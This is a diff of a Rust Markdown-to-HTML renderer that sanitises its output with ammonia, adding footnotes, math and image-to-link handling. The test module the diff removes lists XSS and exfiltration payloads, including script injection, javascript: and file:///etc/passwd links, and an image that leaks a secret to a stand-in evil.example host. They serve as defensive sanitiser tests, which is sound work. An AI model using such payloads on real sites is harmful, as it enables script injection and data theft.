@@ -1,7 +1,10 @@
 //! Markdown as HTML that is safe to show: nothing in it runs, nothing in it is fetched.
+//!
+//! What the window makes of the HTML afterwards: `code.language-…` is coloured, `span.math` is set as a
+//! formula, `a[data-note]` opens a note, `a[data-footnote-ref]` goes to `div[data-footnote]`, and
+//! `a[data-image]` stands for a picture that is somewhere else and was not asked for.
 
 use std::collections::{HashMap, HashSet};
-use std::ops::Range;
 use std::sync::LazyLock;
 
 use ammonia::Builder;
@@ -15,43 +18,58 @@ pub struct Block {
 
 /// The top-level blocks of a Markdown text, each rendered and sanitised.
 pub fn blocks(markdown: &str) -> Vec<Block> {
-    let mut ranges: Vec<Range<usize>> = Vec::new();
+    unsafe_blocks(markdown).iter().map(|raw| Block { html: SANITISER.clean(raw).to_string() }).collect()
+}
+
+/// A whole Markdown text as sanitised HTML. `[[links]]` become `<a data-note="target">`.
+pub fn html(markdown: &str) -> String {
+    SANITISER.clean(&unsafe_blocks(markdown).concat()).to_string()
+}
+
+/// The blocks of a text that grows. Only what changed is sanitised again, which is nearly all of the work.
+#[derive(Default)]
+pub(crate) struct Growing {
+    /// By block, as it was rendered before it was sanitised.
+    rendered: Vec<String>,
+    blocks: Vec<Block>,
+}
+
+impl Growing {
+    pub(crate) fn update(&mut self, markdown: &str) -> &[Block] {
+        let rendered = unsafe_blocks(markdown);
+        self.blocks.resize(rendered.len(), Block { html: String::new() });
+        for (at, (raw, block)) in rendered.iter().zip(&mut self.blocks).enumerate() {
+            if self.rendered.get(at) != Some(raw) {
+                block.html = SANITISER.clean(raw).to_string();
+            }
+        }
+        self.rendered = rendered;
+        &self.blocks
+    }
+}
+
+/// The text is read as a whole, since a block may refer to what another one defines, and rendered block
+/// by block. Not to be shown before it is sanitised.
+fn unsafe_blocks(markdown: &str) -> Vec<String> {
+    let mut reader = Reader::default();
+    let mut rendered = Vec::new();
+    let mut events = Vec::new();
     let mut depth = 0_usize;
     for (event, range) in Parser::new_ext(markdown, options()).into_offset_iter() {
-        if depth == 0 && !matches!(event, Event::End(_)) {
-            ranges.push(range);
-        }
         match event {
             Event::Start(_) => depth += 1,
             Event::End(_) => depth = depth.saturating_sub(1),
             _ => {}
         }
+        let next = markdown.get(range.end..).and_then(|rest| rest.chars().next());
+        reader.read(event, next, &mut events);
+        if depth == 0 {
+            let mut html = String::new();
+            push_html(&mut html, events.drain(..));
+            rendered.push(html);
+        }
     }
-    ranges.into_iter().map(|range| Block { html: html(&markdown[range]) }).collect()
-}
-
-/// A whole Markdown text as sanitised HTML. `[[links]]` become `<a data-note="target">`.
-pub fn html(markdown: &str) -> String {
-    let mut dropped_image = 0_usize;
-    let events = Parser::new_ext(markdown, options()).filter_map(|event| match event {
-        // An image is a request that leaves the window: only its words are kept.
-        Event::Start(Tag::Image { .. }) => {
-            dropped_image += 1;
-            None
-        }
-        Event::End(TagEnd::Image) => {
-            dropped_image = dropped_image.saturating_sub(1);
-            None
-        }
-        Event::Start(Tag::Link { link_type: LinkType::WikiLink { .. }, dest_url, .. }) => {
-            Some(Event::InlineHtml(note_link(&dest_url)))
-        }
-        Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
-        event => Some(event),
-    });
-    let mut out = String::new();
-    push_html(&mut out, events);
-    SANITISER.clean(&out).to_string()
+    rendered
 }
 
 fn options() -> Options {
@@ -60,21 +78,123 @@ fn options() -> Options {
         | Options::ENABLE_STRIKETHROUGH
         | Options::ENABLE_FOOTNOTES
         | Options::ENABLE_WIKILINKS
+        | Options::ENABLE_MATH
         | Options::ENABLE_YAML_STYLE_METADATA_BLOCKS
 }
 
-fn note_link(target: &str) -> CowStr<'static> {
-    let mut escaped = String::new();
-    for c in target.chars() {
+/// Turns what Markdown says into what the window may show.
+#[derive(Default)]
+struct Reader<'a> {
+    /// Numbers of the footnotes by name, in the order in which they are met.
+    footnotes: HashMap<CowStr<'a>, usize>,
+    links: usize,
+    images: Vec<Image<'a>>,
+}
+
+/// A picture whose words are being read.
+struct Image<'a> {
+    /// Shown where it has no words.
+    address: CowStr<'a>,
+    linked: bool,
+    has_words: bool,
+}
+
+impl<'a> Reader<'a> {
+    /// `next` follows the event in the text.
+    fn read(&mut self, event: Event<'a>, next: Option<char>, out: &mut Vec<Event<'a>>) {
+        if matches!(event, Event::Text(_) | Event::Code(_) | Event::InlineMath(_))
+            && let Some(image) = self.images.last_mut()
+        {
+            image.has_words = true;
+        }
+        let shown = match event {
+            Event::Start(Tag::Image { link_type, dest_url, .. }) => {
+                let tag = if self.links > 0 { None } else { image_link(link_type, &dest_url) };
+                self.images.push(Image { address: dest_url, linked: tag.is_some(), has_words: false });
+                let Some(tag) = tag else { return };
+                tag
+            }
+            Event::End(TagEnd::Image) => {
+                let Some(image) = self.images.pop() else { return };
+                if !image.has_words {
+                    out.push(Event::Text(image.address));
+                }
+                if !image.linked {
+                    return;
+                }
+                Event::InlineHtml("</a>".into())
+            }
+            Event::Start(Tag::Link { link_type: LinkType::WikiLink { .. }, dest_url, .. }) => {
+                self.links += 1;
+                Event::InlineHtml(format!("<a data-note=\"{}\">", escaped(&dest_url)).into())
+            }
+            Event::Start(Tag::Link { .. }) => {
+                self.links += 1;
+                event
+            }
+            Event::End(TagEnd::Link) => {
+                self.links = self.links.saturating_sub(1);
+                event
+            }
+            Event::FootnoteReference(name) => {
+                let number = self.footnote(name);
+                Event::InlineHtml(format!("<sup><a data-footnote-ref=\"{number}\">{number}</a></sup>").into())
+            }
+            Event::Start(Tag::FootnoteDefinition(name)) => {
+                let number = self.footnote(name);
+                Event::Html(format!("<div data-footnote=\"{number}\"><sup>{number}</sup>").into())
+            }
+            Event::End(TagEnd::FootnoteDefinition) => Event::Html("</div>\n".into()),
+            Event::InlineMath(formula) if is_money(&formula, next) => {
+                Event::Text(format!("${formula}$").into())
+            }
+            Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
+            event => event,
+        };
+        out.push(shown);
+    }
+
+    fn footnote(&mut self, name: CowStr<'a>) -> usize {
+        let next = self.footnotes.len() + 1;
+        *self.footnotes.entry(name).or_insert(next)
+    }
+}
+
+/// A picture elsewhere would be a request that leaves the window, one in the vault is no page: the first
+/// becomes a link that the reader may follow, of the second its words are kept. An embedded note is a link.
+fn image_link(link_type: LinkType, address: &str) -> Option<Event<'static>> {
+    let note = matches!(link_type, LinkType::WikiLink { .. });
+    if note && !PICTURES.iter().any(|end| address.to_ascii_lowercase().ends_with(end)) {
+        return Some(Event::InlineHtml(format!("<a data-note=\"{}\">", escaped(address)).into()));
+    }
+    let elsewhere = address.starts_with("https://") || address.starts_with("http://");
+    (elsewhere && !note)
+        .then(|| Event::InlineHtml(format!("<a href=\"{}\" data-image=\"\">", escaped(address)).into()))
+}
+
+const PICTURES: [&str; 8] = [".png", ".jpg", ".jpeg", ".gif", ".svg", ".webp", ".avif", ".bmp"];
+
+/// "$1,200 to ~$1,500" has no formula in it: as pandoc has it, no digit follows the end of one, and
+/// what begins with an amount and goes on in words is none.
+fn is_money(formula: &str, next: Option<char>) -> bool {
+    let prose = formula.starts_with(|c: char| c.is_ascii_digit())
+        && formula.contains(char::is_whitespace)
+        && !formula.contains(['\\', '^', '_', '=', '+', '*', '<', '>', '{']);
+    prose || next.is_some_and(|c| c.is_ascii_digit())
+}
+
+fn escaped(text: &str) -> String {
+    let mut out = String::new();
+    for c in text.chars() {
         match c {
-            '&' => escaped.push_str("&amp;"),
-            '"' => escaped.push_str("&quot;"),
-            '<' => escaped.push_str("&lt;"),
-            '>' => escaped.push_str("&gt;"),
-            c => escaped.push(c),
+            '&' => out.push_str("&amp;"),
+            '"' => out.push_str("&quot;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            c => out.push(c),
         }
     }
-    CowStr::from(format!("<a data-note=\"{escaped}\">"))
+    out
 }
 
 static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
@@ -108,11 +228,16 @@ static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
             "a",
             "sup",
             "div",
+            "span",
             "input",
         ]))
         .tag_attributes(HashMap::from([
-            ("a", HashSet::from(["href", "data-note"])),
+            ("a", HashSet::from(["href", "data-note", "data-image", "data-footnote-ref"])),
             ("code", HashSet::from(["class"])),
+            ("div", HashSet::from(["data-footnote"])),
+            ("span", HashSet::from(["class"])),
+            ("th", HashSet::from(["style"])),
+            ("td", HashSet::from(["style"])),
             ("ol", HashSet::from(["start"])),
             ("input", HashSet::from(["type", "checked", "disabled"])),
         ]))
@@ -125,78 +250,18 @@ static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
                 let plain = language.chars().all(|c| c.is_ascii_alphanumeric() || "+-_#.".contains(c));
                 plain.then(|| value.into())
             }
+            ("span", "class") => {
+                ["math math-inline", "math math-display"].contains(&value).then(|| value.into())
+            }
+            // How columns are aligned, in the words of the renderer and no other.
+            ("th" | "td", "style") => ALIGNED.contains(&value).then(|| value.into()),
             ("input", "type") => (value == "checkbox").then(|| value.into()),
             _ => Some(value.into()),
         });
     builder
 });
 
+const ALIGNED: [&str; 3] = ["text-align: left", "text-align: center", "text-align: right"];
+
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn a_message_is_a_list_of_blocks() {
-        let found: Vec<String> = blocks("# Hi\n\nOne *two*.\n\n- a\n- b\n\n| x |\n|---|\n| 1 |\n")
-            .into_iter()
-            .map(|b| b.html)
-            .collect();
-        assert_eq!(found.len(), 4, "{found:?}");
-        assert_eq!(found[0].trim(), "<h1>Hi</h1>");
-        assert_eq!(found[1].trim(), "<p>One <em>two</em>.</p>");
-        assert!(found[2].contains("<li>a</li>"), "{}", found[2]);
-        assert!(found[3].contains("<td>1</td>"), "{}", found[3]);
-    }
-
-    #[test]
-    fn note_links_keep_their_target_and_their_words() {
-        assert_eq!(
-            html("See [[Jane Doe]].").trim(),
-            "<p>See <a data-note=\"Jane Doe\" rel=\"noopener noreferrer\">Jane Doe</a>.</p>"
-        );
-        assert_eq!(
-            html("[[CRM/People/Jane Doe#Log|J]]").trim(),
-            "<p><a data-note=\"CRM/People/Jane Doe#Log\" rel=\"noopener noreferrer\">J</a></p>"
-        );
-    }
-
-    #[test]
-    fn nothing_runs_and_nothing_is_fetched() {
-        let hostile = [
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "![x](https://evil.example/?leak=secret)",
-            "[x](javascript:alert(1))",
-            "[x](data:text/html,<script>alert(1)</script>)",
-            "[x](file:///etc/passwd)",
-            "<a href=\"javascript:alert(1)\">x</a>",
-            "<svg onload=alert(1)>",
-            "<style>body{background:url(https://evil.example)}</style>",
-            "<iframe src=https://evil.example></iframe>",
-            "[[x\" onclick=\"alert(1)]]",
-            "<https://evil.example/\" onmouseover=\"alert(1)>",
-            "```x\" onclick=\"alert(1)\ncode\n```",
-        ];
-        for markdown in hostile {
-            let html = html(markdown).to_lowercase();
-            // Text may name these things (its `<` is escaped); a tag or an attribute may not.
-            for tag in html.split('<').skip(1).filter_map(|part| part.split('>').next()) {
-                let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
-                let harmless = ["p", "a", "em", "strong", "code", "pre"].contains(&name);
-                assert!(harmless, "{markdown} became {html}");
-                for address in ["javascript:", "data:", "file:"] {
-                    assert!(!tag.contains(address), "{markdown} became {html}");
-                }
-                let unquoted: String = tag.split('"').step_by(2).collect();
-                for attribute in ["onerror", "onclick", "onload", "onmouseover", "src", "style"] {
-                    assert!(!unquoted.contains(&format!(" {attribute}")), "{markdown} became {html}");
-                }
-            }
-        }
-    }
-
-    #[test]
-    fn code_keeps_its_language() {
-        assert!(html("```rust\nfn x() {}\n```").contains("<code class=\"language-rust\">"));
-    }
-}
+mod tests;
